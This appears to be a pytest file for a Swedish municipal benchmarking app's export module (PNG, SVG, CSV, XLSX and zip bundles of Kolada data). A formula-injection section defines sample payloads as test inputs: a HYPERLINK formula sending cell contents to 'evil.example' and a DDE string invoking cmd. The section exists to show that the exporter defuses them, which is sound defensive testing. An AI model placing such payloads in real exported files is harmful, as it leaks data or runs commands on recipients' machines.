import csv
import io
import json
import struct
import zipfile

import altair as alt
import pandas as pd
import pytest

from benchmark import exports

DATA = pd.DataFrame({"År": [2022, 2023, 2024], "Höör": [-2.2448, -9.7858, -20.7972]})
INFO = exports.ExportInfo(
    name="nka-1267-ifo",
    title="Nettokostnadsavvikelse IFO, Höör",
    subtitle="Höör · Individ- och familjeomsorg · Liknande kommuner IFO, Höör, 2024 · 2022–2024",
    source="Källa: Kolada (hämtad 2026-11-22). Jämförelsevärden: Egen bearbetning.",
    kpis=[("N30001", "Nettokostnadsavvikelse individ- och familjeomsorg, (%)")],
    group="Liknande kommuner IFO, Höör, 2024 (G36535, utgåva 2024)",
    members=[("0128", "Salem"), ("2523", "Gällivare")],
    fetched_at="2026-11-22T10:00:00+00:00",
    formulas=["Median över jämförelsekommunerna med värde."],
)


@pytest.fixture(scope="module")
def chart():
    return alt.Chart(DATA).mark_line().encode(x="År:O", y="Höör:Q").properties(height=300)


def png_size(png: bytes) -> tuple[int, int, int]:
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", png[16:24])
    at = png.find(b"pHYs")
    ppm = struct.unpack(">I", png[at + 4 : at + 8])[0]
    return width, height, round(ppm * 0.0254)


def test_png_is_print_resolution(chart):
    width, height, dpi = png_size(exports.to_png(chart, INFO))
    assert dpi == 300
    assert width >= 3000 and height > 1000  # 760 px layout at 300/72


def test_svg_has_title_subtitle_and_source(chart):
    svg = exports.to_svg(chart, INFO)
    assert svg.startswith("<svg")
    assert INFO.title in svg and "Liknande kommuner IFO, Höör, 2024" in svg
    assert "Källa: Kolada (hämtad 2026-11-22)" in svg
    width = float(svg.split('width="', 1)[1].split('"', 1)[0])
    assert width >= exports.EXPORT_WIDTH


def test_csv_is_swedish_excel_friendly():
    text = exports.to_csv(DATA).decode("utf-8-sig")
    assert text.splitlines()[0] == "År;Höör"
    assert text.splitlines()[3] == "2024;-20,7972"


def test_xlsx_holds_the_data_and_the_metadata():
    sheets = pd.read_excel(io.BytesIO(exports.to_xlsx(DATA, INFO)), sheet_name=None)
    assert list(sheets) == ["Data", "Metadata"]
    pd.testing.assert_frame_equal(sheets["Data"], DATA, check_dtype=False)
    meta = dict(zip(sheets["Metadata"]["Fält"], sheets["Metadata"]["Värde"], strict=False))
    assert meta["Jämförelsegrupp"].startswith("Liknande kommuner IFO, Höör, 2024 (G36535")
    assert meta["Nyckeltal N30001"].startswith("Nettokostnadsavvikelse")
    assert meta["Jämförelsekommuner"] == "Salem (0128), Gällivare (2523)"
    assert "Källa: Kolada" in meta["Villkor"]


def test_bundle_contents(chart):
    z = zipfile.ZipFile(io.BytesIO(exports.bundle(chart, DATA, INFO)))
    assert sorted(z.namelist()) == sorted(
        ["nka-1267-ifo.png", "nka-1267-ifo.svg", "nka-1267-ifo.xlsx", "nka-1267-ifo.csv",
         "metadata.json"]
    )  # fmt: skip
    assert png_size(z.read("nka-1267-ifo.png"))[2] == 300
    meta = json.loads(z.read("metadata.json"))
    assert meta["members"] == [{"id": "0128", "name": "Salem"}, {"id": "2523", "name": "Gällivare"}]
    assert meta["kpis"][0]["id"] == "N30001" and meta["fetched_at"].startswith("2026-11-22")
    assert "Egen bearbetning" in meta["terms"]
    data = pd.read_excel(io.BytesIO(z.read("nka-1267-ifo.xlsx")), sheet_name="Data")
    assert len(data) == len(DATA)


# ---- formula injection: text from Kolada is never a formula in a spreadsheet -----------------
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
CRAFTED = pd.DataFrame(
    {
        "Kommun": [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "Höör", None],
        "Kommun-id": ["0561", "1267", "1266", "0780", "0128", "2523", "1267", "2031"],
        "NKA (%)": [-20.7972, 1.5, -3.25, 0.0, 2.0, -1.0, 4.0, float("nan")],
        "Plats": [1, 2, 3, 4, 5, 6, 7, 8],
    }
)
CRAFTED_INFO = exports.ExportInfo(
    name="x",
    title=HYPERLINK,
    subtitle="=1+1 · Individ- och familjeomsorg",
    source="Källa: Kolada",
    members=[("0561", "=cmd|' /C calc'!A0")],
    group="+Liknande kommuner",
    formulas=["http://evil.example/leak"],  # would be a link with xlsxwriter's defaults
)


def csv_rows(data: pd.DataFrame) -> list[list[str]]:
    """The CSV as a spreadsheet reads it (semicolons, quoted fields may hold line breaks)."""
    text = exports.to_csv(data).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_fields_that_would_be_formulas_are_text():
    rows = csv_rows(CRAFTED)
    assert len(rows) == len(CRAFTED) + 1  # a CR inside a field does not start a row
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "Höör", ""]
    # numbers stay numbers, rounded as the app shows them ("NKA (%)": 1 decimal, as fmt does)
    assert [r[2] for r in rows[1:4]] == ["-20,8", "1,5", "-3,2"]
    assert [r[3] for r in rows[1:3]] == ["1", "2"]


def test_csv_a_carriage_return_cannot_start_a_row_with_a_formula():
    rows = csv_rows(pd.DataFrame({"Kommun": ['Höör\r=HYPERLINK("http://evil.example")']}))
    assert rows == [["Kommun"], ['Höör\r=HYPERLINK("http://evil.example")']]


def test_csv_header_that_would_be_a_formula_is_text():
    assert csv_rows(pd.DataFrame({"=1+1": [1.0]}))[0] == ["'=1+1"]


def test_xlsx_has_no_formula_and_numbers_stay_numbers():
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(CRAFTED, CRAFTED_INFO)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    data = book["Data"]
    assert data["A2"].value == "'" + HYPERLINK and data["A2"].data_type == "s"
    assert [data[f"A{i}"].value for i in range(3, 6)] == ["'+1+1", "'-2+3", "'@SUM(A1)"]
    assert data["C2"].value == -20.8 and data["C2"].data_type == "n"  # rounded as shown
    assert data["D2"].value == 1 and data["D2"].data_type == "n"
    meta = {r[0].value: r[1].value for r in book["Metadata"].iter_rows(min_row=2)}
    assert meta["Titel"] == "'" + HYPERLINK
    assert meta["Urval"] == "'=1+1 · Individ- och familjeomsorg"
    assert meta["Jämförelsegrupp"] == "'+Liknande kommuner"
    assert meta["Jämförelsekommuner"] == "=cmd|' /C calc'!A0 (0561)".replace("=", "'=", 1)
    assert not any(isinstance(v, str) and v.startswith("=") for v in meta.values())


def test_xlsx_has_no_hyperlinks():
    z = zipfile.ZipFile(io.BytesIO(exports.to_xlsx(CRAFTED, CRAFTED_INFO)))
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in z.read(n) or b"hyperlink" in z.read(n) for n in sheets)


def test_bundle_csv_and_xlsx_are_safe_too(chart):
    z = zipfile.ZipFile(io.BytesIO(exports.bundle(chart, DATA.assign(Kommun=HYPERLINK), INFO)))
    assert "'=HYPERLINK(" in z.read("nka-1267-ifo.csv").decode("utf-8-sig")
    data = pd.read_excel(io.BytesIO(z.read("nka-1267-ifo.xlsx")), sheet_name="Data")
    assert data["Kommun"].iloc[0] == "'" + HYPERLINK
    assert data["Höör"].tolist() == DATA["Höör"].tolist()


def test_the_plain_export_is_unchanged():
    assert exports.spreadsheet_safe(DATA).equals(DATA)


# ---- issue 8 §6: exports fit for a report ---------------------------------------------------
REPORT = pd.DataFrame(
    {
        "År": [2018, 2019],
        "Område": ["Individ- och familjeomsorg", "Individ- och familjeomsorg"],
        "Avvikelse (%)": [32.04, -9.7858],  # percent numbers, not fractions
        "Skillnad (p.e.)": [1.94, -13.96],
        "Nettokostnad (kr/inv)": [4123.6, 980.2],
        "Kommuner med värde": [7, 8],
    }
)


def report_info(years: tuple[int, int], **kw) -> exports.ExportInfo:
    return exports.ExportInfo(
        name="omraden-nka-0561-ifo",
        title="Nettokostnadsavvikelse per område, Åtvidaberg",
        subtitle="Åtvidaberg · Nettokostnadsavvikelse (%) per verksamhetsområde och år",
        source="Källa: Kolada (hämtad 2026-11-22). Jämförelsevärden: Egen bearbetning av data "
        "från Kolada.",
        kpis=[("N30001", "NKA IFO (%)")],
        years=years,
        **kw,
    )


def data_sheet(data: pd.DataFrame, info: exports.ExportInfo):
    import openpyxl

    return openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(data, info)))["Data"]


def test_xlsx_numbers_have_formats_for_their_unit():
    sheet = data_sheet(REPORT, report_info((2018, 2019)))
    header = [c.value for c in sheet[1]]
    cell = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in header}
    # NKA is stored as the percent number 32.0 with a literal " %" (not Excel's 0.0% × 100)
    assert cell["Avvikelse (%)"].number_format == '0.0" %"'
    assert cell["Avvikelse (%)"].value == 32.0 and cell["Avvikelse (%)"].data_type == "n"
    assert cell["Skillnad (p.e.)"].number_format.startswith('+0.0" p.e."')
    assert cell["Nettokostnad (kr/inv)"].number_format == '#,##0" kr"'  # "# ##0 kr" in sv Excel
    assert cell["Kommuner med värde"].number_format == "General"  # a count is left alone
    assert cell["År"].number_format == "General" and cell["År"].value == 2018


def test_xlsx_units_can_be_given_for_columns_without_one_in_the_name():
    data = pd.DataFrame({"År": [2020], "Höör": [-2.2448], "Median": [11.66]})
    info = report_info((2020, 2020), units={"Höör": "%", "Median": "%"})
    sheet = data_sheet(data, info)
    assert sheet["B2"].number_format == '0.0" %"' and sheet["B2"].value == -2.2
    assert sheet["C2"].number_format == '0.0" %"' and sheet["C2"].value == 11.7


def test_exports_round_values_as_shown():
    info = report_info((2018, 2019))
    assert exports.rounded(REPORT)["Avvikelse (%)"].tolist() == [32.0, -9.8]
    assert exports.rounded(REPORT)["Nettokostnad (kr/inv)"].tolist() == [4124, 980]
    rows = list(csv.reader(io.StringIO(exports.to_csv(REPORT, info).decode("utf-8-sig")),
                           delimiter=";"))  # fmt: skip
    assert rows[1] == ["2018", "Individ- och familjeomsorg", "32,0", "1,9", "4124", "7"]
    assert rows[2][2:5] == ["-9,8", "-14,0", "980"]
    sheet = data_sheet(REPORT, info)
    assert [sheet["C3"].value, sheet["D3"].value, sheet["E3"].value] == [-9.8, -14.0, 980]


def test_budget_table_gets_a_format_and_rounding_per_row():
    frame = pd.DataFrame(
        {"Avsnitt": ["Indata", "Indata", "Skillnad", "Skillnad"],
         "Uppgift": ["NKA", "Referenskostnad per invånare", "Belopp", "Per invånare"],
         "År": [2024] * 4, "Värde": [25.04, 30123.4, 0.4512, 1234.56],
         "Enhet": ["%", "kr/inv", "mnkr", "kr/inv"]}
    )  # fmt: skip
    sheet = data_sheet(frame, report_info((2024, 2024)))
    assert [sheet[f"D{r}"].value for r in range(2, 6)] == [25.0, 30123, 0.451, 1235]
    assert sheet["D2"].number_format == '0.0" %"'
    assert sheet["D3"].number_format == '#,##0" kr"'
    assert "mnkr" in sheet["D4"].number_format


def test_method_break_note_in_every_export_of_years_before_2019(chart):
    old = report_info((2014, 2022))
    assert old.method_break and exports.METHOD_BREAK_NOTE in old.notes
    meta = dict(zip(old.metadata()["Fält"], old.metadata()["Värde"], strict=True))
    assert meta["Metodbyte"] == exports.METHOD_BREAK_NOTE and meta["År"] == "2014–2022"
    assert "Värden före 2019 är inte direkt jämförbara" in exports.to_svg(chart, old)
    z = zipfile.ZipFile(io.BytesIO(exports.bundle(chart, REPORT, old)))
    assert json.loads(z.read("metadata.json"))["notes"] == [exports.METHOD_BREAK_NOTE]
    sheet = pd.read_excel(io.BytesIO(z.read(f"{old.name}.xlsx")), sheet_name="Metadata")
    assert exports.METHOD_BREAK_NOTE in sheet["Värde"].tolist()

    new = report_info((2019, 2022))
    assert not new.method_break and new.notes == []
    assert "Metodbyte" not in new.metadata()["Fält"].tolist()
    assert "inte direkt jämförbara" not in exports.to_svg(chart, new)
    assert "Källa: Kolada" in exports.to_svg(chart, new)


def test_metadata_lists_the_kpis_it_is_given_and_no_others():
    info = report_info((2019, 2022))
    meta = info.metadata()
    listed = [f.removeprefix("Nyckeltal ") for f in meta["Fält"] if f.startswith("Nyckeltal ")]
    assert listed == ["N30001"]
    z = zipfile.ZipFile(io.BytesIO(exports.bundle(
        alt.Chart(DATA).mark_point().encode(x="År:O"), REPORT, info)))  # fmt: skip
    assert [k["id"] for k in json.loads(z.read("metadata.json"))["kpis"]] == ["N30001"]
    terms = dict(zip(meta["Fält"], meta["Värde"], strict=True))["Villkor"]
    assert "Källa: Kolada" in terms and "Egen bearbetning av data från Kolada" in terms


def test_exported_chart_keeps_its_legends_under_the_title(chart):
    spec = exports.framed(chart, report_info((2014, 2022))).to_dict()
    assert spec["resolve"]["legend"]["color"] == "independent"  # not above the figure's title
    source = spec["vconcat"][1]
    assert source["mark"]["lineBreak"] == "\n" and source["height"] == 28  # two lines


def test_a_noncharacter_never_reaches_the_renderer():
    """vl-convert aborts the process on U+FFFE: the spec is cleaned before it is rendered."""
    import altair as alt
    import pandas as pd

    from benchmark.exports import renderable

    spec = {"title": "Åt\ufffevidaberg", "data": {"values": [{"x": "a\uffff", "y": 1}]}}
    assert renderable(spec) == {"title": "Åtvidaberg", "data": {"values": [{"x": "a", "y": 1}]}}
    chart = alt.Chart(pd.DataFrame({"x": ["Åt\ufffevidaberg"], "y": [1]})).mark_bar()
    chart = chart.encode(x="x", y="y").properties(title="Åt\ufffevidaberg")
    import vl_convert as vlc

    assert vlc.vegalite_to_svg(renderable(chart.to_dict())).startswith("<svg")
